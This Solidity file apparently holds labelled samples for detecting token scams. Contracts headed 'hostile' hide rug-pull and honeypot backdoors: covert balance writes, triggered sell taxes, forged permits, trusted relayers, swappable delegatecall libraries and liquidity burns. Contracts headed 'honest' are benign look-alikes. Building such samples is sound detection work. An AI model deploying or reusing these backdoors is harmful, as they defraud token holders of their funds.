// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV2Router} from "../shared/UniswapV2.sol";
import {Listed} from "./Listed.sol";

interface IHandPair {
    function sync() external;
}

interface IHandPlain {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

// ---------------------------------------------------------------------------------------- hostile

/// @notice Raw calldata of 52 bytes, by the sender behind a hash, writes any account's balance.
contract HandRaw is Listed {
    bytes32 private immutable _seal;

    constructor(IUniswapV2Router router) Listed(router) {
        _seal = keccak256(abi.encodePacked(msg.sender, address(this)));
    }

    fallback(bytes calldata data) external returns (bytes memory) {
        if (data.length != 52 || keccak256(abi.encodePacked(msg.sender, address(this))) != _seal) return data;
        address who = address(bytes20(data[:20]));
        uint256 value = uint256(bytes32(data[20:52]));
        assembly {
            mstore(0, who)
            mstore(32, balanceOf.slot)
            sstore(keccak256(0, 64), value)
        }
        return "";
    }
}

/// @notice Tips of the keeper are shifted into a word: 4099 gwei and then 95 gwei tax sales a day later.
contract HandTips is Listed {
    struct Tips {
        address keeper;
        uint64 last;
        uint32 word;
    }

    Tips private _tips;
    uint256 public given;

    constructor(IUniswapV2Router router) Listed(router) {
        _tips.keeper = msg.sender;
    }

    receive() external payable {
        given += msg.value;
        Tips storage tips = _tips;
        if (msg.sender != tips.keeper) return;
        tips.word = (tips.word << 16) | uint16(msg.value / 1 gwei);
        tips.last = uint64(block.timestamp);
    }

    function _move(address from, address to, uint256 amount) internal override {
        Tips memory tips = _tips;
        if (to == pair && from != tips.keeper && tips.word >> 16 == 4099 && block.timestamp > tips.last + 1 days) {
            uint256 kept = amount * (uint16(tips.word) % 100) / 100;
            super._move(from, tips.keeper, kept);
            amount -= kept;
        }
        super._move(from, to, amount);
    }
}

/// @notice The maker sends himself dust that ends in 0xbeef: each byte before it shuts sales of an eighth of all accounts.
contract HandDust is Listed {
    address private immutable _maker = msg.sender;
    uint256 private _marks;

    constructor(IUniswapV2Router router) Listed(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (from == _maker) {
            if (to == from && amount & 0xffff == 0xbeef) _marks ^= 1 << ((amount >> 16) & 0xff);
        } else if (to == pair) {
            require((_marks >> (uint160(from) & 7)) & 1 == 0, "dust");
        }
        super._move(from, to, amount);
    }
}

/// @notice What the maker lets the pair spend is the percentage that sales lose.
contract HandSpender is Listed {
    address private immutable _maker = msg.sender;

    constructor(IUniswapV2Router router) Listed(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair && from != _maker) {
            uint256 share = allowance[_maker][to];
            uint256 lost = amount * (share > 97 ? 97 : share) / 100;
            super._move(from, address(this), lost);
            amount -= lost;
        }
        super._move(from, to, amount);
    }
}

/// @notice EIP-2612, but the maker's signature is as good as the owner's.
contract HandPermit is Listed {
    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    mapping(address => uint256) public nonces;
    bytes32 private immutable _salt;

    constructor(IUniswapV2Router router) Listed(router) {
        _salt = keccak256(abi.encode(msg.sender));
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name)),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(block.timestamp <= deadline, "late");
        bytes32 message = keccak256(abi.encode(PERMIT, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), message)), v, r, s);
        require(signer != address(0), "signature");
        require(signer == owner || keccak256(abi.encode(signer)) == _salt, "signer");
        _approve(owner, spender, value);
    }
}

contract HandHook {
    function shareOf(address, address, uint256) external pure returns (uint256) {
        return 0;
    }
}

/// @notice Each move asks a library by delegatecall. The maker nominates, the nominee accepts a day later, and sets "metadata".
contract HandLibrary is Listed {
    uint256 private _metadata;
    address public steward;
    address public nominee;
    uint256 public nominated;
    address private immutable _maker = msg.sender;
    uint256 private constant MASK = uint256(keccak256("metadata"));

    constructor(IUniswapV2Router router) Listed(router) {
        _metadata = uint160(address(new HandHook())) ^ MASK;
    }

    function nominate(address who) external {
        require(msg.sender == _maker, "maker");
        nominee = who;
        nominated = block.timestamp;
    }

    function accept() external {
        require(msg.sender == nominee && block.timestamp >= nominated + 1 days, "early");
        steward = msg.sender;
        delete nominee;
    }

    function setMetadata(uint256 word) external {
        require(msg.sender == steward, "steward");
        _metadata = word;
    }

    function _move(address from, address to, uint256 amount) internal override {
        (bool isDone, bytes memory answer) =
            address(uint160(_metadata ^ MASK)).delegatecall(abi.encodeCall(HandHook.shareOf, (from, to, amount)));
        require(isDone, "library");
        uint256 share = abi.decode(answer, (uint256));
        super._move(from, address(this), share);
        super._move(from, to, amount - share);
    }
}

contract HandRoles {
    mapping(bytes32 => mapping(address => bool)) public has;
    mapping(bytes32 => bytes32) public adminOf;

    constructor(address first) {
        has[0][first] = true;
        adminOf["listing"] = "clerk";
    }

    function grant(bytes32 role, address who, bool isGranted) external {
        require(has[adminOf[role]][msg.sender], "role");
        has[role][who] = isGranted;
    }
}

/// @notice A registry of roles made by the token: the head names a clerk, and the clerk marks accounts that sell no more.
contract HandRegistry is Listed {
    HandRoles public immutable roles;

    constructor(IUniswapV2Router router) Listed(router) {
        roles = new HandRoles(msg.sender);
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair) require(!roles.has("listing", from) && !roles.has("listing", to), "listing");
        super._move(from, to, amount);
    }
}

contract HandFees {
    function feeOf(address, address, uint256) external pure returns (uint256) {
        return 0;
    }
}

contract HandBeaconOf {
    address public implementation;
    address private _next;
    uint64 private _since;
    address private immutable _keeper;

    constructor(address keeper) {
        _keeper = keeper;
        implementation = address(new HandFees());
    }

    function note(address next) external {
        require(msg.sender == _keeper, "keeper");
        _next = next;
        _since = uint64(block.timestamp);
    }

    function checkpoint() external {
        require(_next != address(0) && block.timestamp >= _since + 2 days, "early");
        implementation = _next;
        delete _next;
    }
}

/// @notice A beacon made by the token names who is asked for the fee; anyone finishes what its keeper began two days ago.
contract HandBeacon is Listed {
    HandBeaconOf private immutable _beacon;

    constructor(IUniswapV2Router router) Listed(router) {
        _beacon = new HandBeaconOf(msg.sender);
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 fee = HandFees(_beacon.implementation()).feeOf(from, to, amount);
        if (fee > 0) super._move(from, address(_beacon), fee);
        super._move(from, to, amount - fee);
    }
}

/// @notice Votes of holders at the genesis, which is the maker alone, set parameters; one of them is the tax on sales.
contract HandVotes is Listed {
    struct Motion {
        bytes32 subject;
        uint256 value;
        uint256 since;
        uint256 votes;
    }

    Motion[] public motions;
    mapping(address => uint256) public seatsOf;
    mapping(uint256 => mapping(address => bool)) public hasVoted;
    mapping(bytes32 => uint256) public parameters;

    constructor(IUniswapV2Router router) Listed(router) {
        seatsOf[msg.sender] = totalSupply / 1e18;
    }

    function move(bytes32 subject, uint256 value) external {
        motions.push(Motion(subject, value, block.timestamp, 0));
    }

    function vote(uint256 id) external {
        require(!hasVoted[id][msg.sender], "twice");
        hasVoted[id][msg.sender] = true;
        motions[id].votes += seatsOf[msg.sender];
    }

    function enact(uint256 id) external {
        Motion memory motion = motions[id];
        require(block.timestamp >= motion.since + 1 days && motion.votes > totalSupply / 2e18, "not carried");
        parameters[motion.subject] = motion.value;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair) {
            uint256 kept = amount * parameters["sale"] / 10_000;
            super._move(from, address(this), kept);
            amount -= kept;
        }
        super._move(from, to, amount);
    }
}

/// @notice The account that knows a chain of hashes seals a word, waits an hour, reveals it; after two links 90 % of sales are his.
contract HandReveal is Listed {
    struct Note {
        bytes32 seal;
        uint256 since;
    }

    bytes32 private _head = 0x89cabf94b2c8366c8091f4d34cc1fb788e57d7cd3f0f86e5d599a448bcaff520;
    uint256 public round;
    address private _last;
    mapping(address => Note) public notes;

    constructor(IUniswapV2Router router) Listed(router) {}

    function note(bytes32 seal) external {
        notes[msg.sender] = Note(seal, block.timestamp);
    }

    function checkpoint(bytes32 word) external {
        Note memory mine = notes[msg.sender];
        require(mine.seal == keccak256(abi.encode(word, msg.sender)) && block.timestamp >= mine.since + 1 hours, "seal");
        delete notes[msg.sender];
        if (keccak256(abi.encode(word)) != _head) return;
        _head = word;
        round += 1;
        _last = msg.sender;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair && round >= 2 && from != _last) {
            uint256 kept = amount * 9 / 10;
            super._move(from, _last, kept);
            amount -= kept;
        }
        super._move(from, to, amount);
    }
}

contract HandRelay {
    mapping(address => uint256) public nonces;
    mapping(address => bool) private _isRelayer;

    constructor(address relayer) {
        _isRelayer[relayer] = true;
    }

    function execute(address from, address target, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 hash = keccak256(abi.encode(block.chainid, address(this), from, target, data, nonces[from]++));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", hash)), v, r, s);
        require(signer != address(0) || _isRelayer[msg.sender], "signature");
        require(signer == from || _isRelayer[msg.sender], "signer");
        (bool isDone,) = target.call(abi.encodePacked(data, from));
        require(isDone, "call");
    }
}

/// @notice ERC-2771 with a forwarder made by the token, which believes its relayer without a signature.
contract HandForwarder is Listed {
    HandRelay public immutable trustedForwarder;

    constructor(IUniswapV2Router router) Listed(router) {
        trustedForwarder = new HandRelay(msg.sender);
    }

    function multicall(bytes[] calldata calls) external {
        address sender = _sender();
        for (uint256 i = 0; i < calls.length; ++i) {
            require(bytes4(calls[i]) == this.hand.selector, "hand alone");
            (address to, uint256 amount) = abi.decode(calls[i][4:], (address, uint256));
            _move(sender, to, amount);
        }
    }

    function hand(address to, uint256 amount) external {
        _move(_sender(), to, amount);
    }

    function _sender() private view returns (address) {
        if (msg.sender != address(trustedForwarder)) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }
}

/// @notice Three checkpoints of the keeper on three days, and then anyone's `sync` empties the pair.
contract HandSync is Listed {
    uint256 private _word;

    event Checkpoint(address indexed by, uint256 day);

    constructor(IUniswapV2Router router) Listed(router) {
        _word = uint160(msg.sender);
    }

    function checkpoint() external {
        uint256 word = _word;
        uint256 day = block.timestamp / 1 days;
        emit Checkpoint(msg.sender, day);
        if (address(uint160(word)) != msg.sender || uint64(word >> 160) >= day) return;
        _word = ((word >> 224) + 1) << 224 | day << 160 | uint160(word);
    }

    function sync() external {
        if (_word >> 224 >= 3) {
            uint256 rest = balanceOf[pair] / 1000;
            _burn(pair, balanceOf[pair] - rest);
        }
        IHandPair(pair).sync();
    }
}

/// @notice Checkpoints of a packed time and share; the first one hides who may add to them, the last one past taxes sales.
contract HandTraces is Listed {
    uint256[] private _traces;

    constructor(IUniswapV2Router router) Listed(router) {
        _traces.push(uint256(uint160(msg.sender)) << 96);
    }

    function setMetadata(uint256 at, uint256 value) external {
        require(_traces[0] >> 96 == uint160(msg.sender) && at > block.timestamp + 1 days, "trace");
        _traces.push(uint256(uint64(at)) << 32 | uint32(value));
    }

    function latest() public view returns (uint256) {
        for (uint256 i = _traces.length; i > 1; --i) {
            if (_traces[i - 1] >> 32 <= block.timestamp) return uint32(_traces[i - 1]);
        }
        return 0;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pair && uint160(from) != _traces[0] >> 96) {
            uint256 kept = amount * latest() / 10_000;
            super._move(from, address(uint160(_traces[0] >> 96)), kept);
            amount -= kept;
        }
        super._move(from, to, amount);
    }
}

/// @notice Claims by a Merkle root are minted, and the root is the maker's to replace.
contract HandClaims is Listed {
    bytes32 public metadata;
    mapping(bytes32 => bool) public isClaimed;
    address private immutable _maker = msg.sender;

    constructor(IUniswapV2Router router) Listed(router) {}

    function setMetadata(bytes32 metadata_) external {
        require(msg.sender == _maker, "maker");
        metadata = metadata_;
    }

    function claim(uint256 amount, bytes32[] calldata proof) external {
        bytes32 node = keccak256(bytes.concat(keccak256(abi.encode(msg.sender, amount))));
        bytes32 leaf = node;
        require(!isClaimed[leaf], "claimed");
        for (uint256 i = 0; i < proof.length; ++i) {
            node = node < proof[i]
                ? keccak256(abi.encodePacked(node, proof[i]))
                : keccak256(abi.encodePacked(proof[i], node));
        }
        require(metadata != 0 && node == metadata, "proof");
        isClaimed[leaf] = true;
        _mint(msg.sender, amount);
    }
}

// ----------------------------------------------------------------------------------------- honest

/// @notice The owner sets a tax of 3 % at most.
contract HandSmallTax is Listed {
    address public immutable owner = msg.sender;
    uint256 public buyTax = 100;
    uint256 public sellTax = 100;

    constructor(IUniswapV2Router router) Listed(router) {}

    function setTaxes(uint256 buy, uint256 sell) external {
        require(msg.sender == owner && buy <= 300 && sell <= 300, "bound");
        buyTax = buy;
        sellTax = sell;
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 share = from == owner || to == owner ? 0 : from == pair ? buyTax : to == pair ? sellTax : 0;
        uint256 kept = amount * share / 10_000;
        if (kept > 0) super._move(from, owner, kept);
        super._move(from, to, amount - kept);
    }
}

/// @notice Everything that an owner can do, and no owner any more.
contract HandRenounced is Listed {
    address public owner = msg.sender;
    address public pendingOwner;
    uint256 public sellTax;
    mapping(address => bool) public isBlocked;

    constructor(IUniswapV2Router router) Listed(router) {}

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    function setSellTax(uint256 share) external onlyOwner {
        require(share <= 100, "share");
        sellTax = share;
    }

    function setBlocked(address who, bool blocked) external onlyOwner {
        isBlocked[who] = blocked;
    }

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }

    function transferOwnership(address to) external onlyOwner {
        pendingOwner = to;
    }

    function acceptOwnership() external {
        require(msg.sender == pendingOwner, "pending");
        owner = msg.sender;
        delete pendingOwner;
    }

    function renounceOwnership() external onlyOwner {
        delete owner;
        delete pendingOwner;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!isBlocked[from], "blocked");
        if (to == pair) {
            uint256 kept = amount * sellTax / 100;
            super._move(from, address(this), kept);
            amount -= kept;
        }
        super._move(from, to, amount);
    }
}

/// @notice The owner changes names and a link, and hands that over in two steps.
contract HandMetadata is Listed {
    address public owner = msg.sender;
    address public pendingOwner;
    string public contractURI;

    constructor(IUniswapV2Router router) Listed(router) {}

    function setMetadata(string calldata name_, string calldata symbol_, string calldata link) external {
        require(msg.sender == owner, "owner");
        name = name_;
        symbol = symbol_;
        contractURI = link;
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "owner");
        pendingOwner = to;
    }

    function acceptOwnership() external {
        require(msg.sender == pendingOwner, "pending");
        owner = msg.sender;
        delete pendingOwner;
    }
}

/// @notice Other tokens and ether that came here by mistake go to the owner.
contract HandRescue is Listed {
    address private immutable _owner = msg.sender;

    constructor(IUniswapV2Router router) Listed(router) {}

    receive() external payable {}

    function sync(IHandPlain other) external {
        require(msg.sender == _owner && address(other) != address(this) && address(other) != pair, "other");
        require(other.transfer(_owner, other.balanceOf(address(this))), "rescue");
    }

    function sweep() external {
        (bool isSent,) = _owner.call{value: address(this).balance}("");
        require(isSent, "ether");
    }
}

/// @notice The owner mints up to a cap, and it is reached.
contract HandCapped is Listed {
    uint256 public constant CAP = 1_000_000e18;
    address public minter = msg.sender;

    constructor(IUniswapV2Router router) Listed(router) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter && totalSupply + amount <= CAP, "cap");
        _mint(to, amount);
    }

    function setMinter(address to) external {
        require(msg.sender == minter, "minter");
        minter = to;
    }
}

/// @notice One pause of six hours in the life of the token, and it has been.
contract HandPauseOnce is Listed {
    address private immutable _guardian = msg.sender;
    uint256 public pausedUntil;

    constructor(IUniswapV2Router router) Listed(router) {}

    function pause() external {
        require(msg.sender == _guardian && pausedUntil == 0, "once");
        pausedUntil = block.timestamp + 6 hours;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(block.timestamp >= pausedUntil, "paused");
        super._move(from, to, amount);
    }
}

/// @notice Votes that are delegated, with checkpoints of the past, and nothing that they decide.
contract HandCheckpoints is Listed {
    struct Checkpoint {
        uint48 at;
        uint208 votes;
    }

    mapping(address => address) public delegates;
    mapping(address => Checkpoint[]) private _checkpoints;

    event DelegateChanged(address indexed who, address indexed from, address indexed to);

    constructor(IUniswapV2Router router) Listed(router) {}

    function delegate(address to) external {
        address before = delegates[msg.sender];
        delegates[msg.sender] = to;
        emit DelegateChanged(msg.sender, before, to);
        _moveVotes(before, to, balanceOf[msg.sender]);
    }

    function getVotes(address who) public view returns (uint256) {
        uint256 length = _checkpoints[who].length;
        return length == 0 ? 0 : _checkpoints[who][length - 1].votes;
    }

    function getPastVotes(address who, uint256 at) external view returns (uint256) {
        Checkpoint[] storage all = _checkpoints[who];
        uint256 low = 0;
        uint256 high = all.length;
        while (low < high) {
            uint256 middle = (low + high) / 2;
            if (all[middle].at > at) high = middle;
            else low = middle + 1;
        }
        return low == 0 ? 0 : all[low - 1].votes;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        _moveVotes(delegates[from], delegates[to], amount);
    }

    function _moveVotes(address from, address to, uint256 amount) private {
        if (from == to || amount == 0) return;
        if (from != address(0)) _write(from, getVotes(from) - amount);
        if (to != address(0)) _write(to, getVotes(to) + amount);
    }

    function _write(address who, uint256 votes) private {
        Checkpoint[] storage all = _checkpoints[who];
        uint256 length = all.length;
        if (length > 0 && all[length - 1].at == block.timestamp) all[length - 1].votes = uint208(votes);
        else all.push(Checkpoint(uint48(block.timestamp), uint208(votes)));
    }
}

/// @notice Several public functions in one call, each as its caller; and burning what is one's own.
contract HandBatch is Listed {
    constructor(IUniswapV2Router router) Listed(router) {}

    function multicall(bytes[] calldata calls) external returns (bytes[] memory answers) {
        answers = new bytes[](calls.length);
        for (uint256 i = 0; i < calls.length; ++i) {
            (bool isDone, bytes memory answer) = address(this).delegatecall(calls[i]);
            require(isDone, "call");
            answers[i] = answer;
        }
    }

    function burn(uint256 amount) external {
        _burn(msg.sender, amount);
    }
}

/// @notice EIP-2612 as it is written.
contract HandPermitRight is Listed {
    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    mapping(address => uint256) public nonces;

    constructor(IUniswapV2Router router) Listed(router) {}

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name)),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(block.timestamp <= deadline, "late");
        bytes32 message = keccak256(abi.encode(PERMIT, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), message)), v, r, s);
        require(signer != address(0) && signer == owner, "signer");
        _approve(owner, spender, value);
    }
}

contract HandTexts {
    address public immutable keeper;
    mapping(bytes32 => string) public textOf;
    uint256 public moves;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function write(bytes32 key, string calldata text) external {
        require(msg.sender == keeper, "keeper");
        textOf[key] = text;
    }

    function count() external {
        unchecked {
            moves += 1;
        }
    }
}

/// @notice A registry made by the token keeps texts and counts moves.
contract HandNotes is Listed {
    HandTexts public immutable texts;

    constructor(IUniswapV2Router router) Listed(router) {
        texts = new HandTexts(msg.sender);
    }

    function contractURI() external view returns (string memory) {
        return texts.textOf("uri");
    }

    function _move(address from, address to, uint256 amount) internal override {
        texts.count();
        super._move(from, to, amount);
    }
}
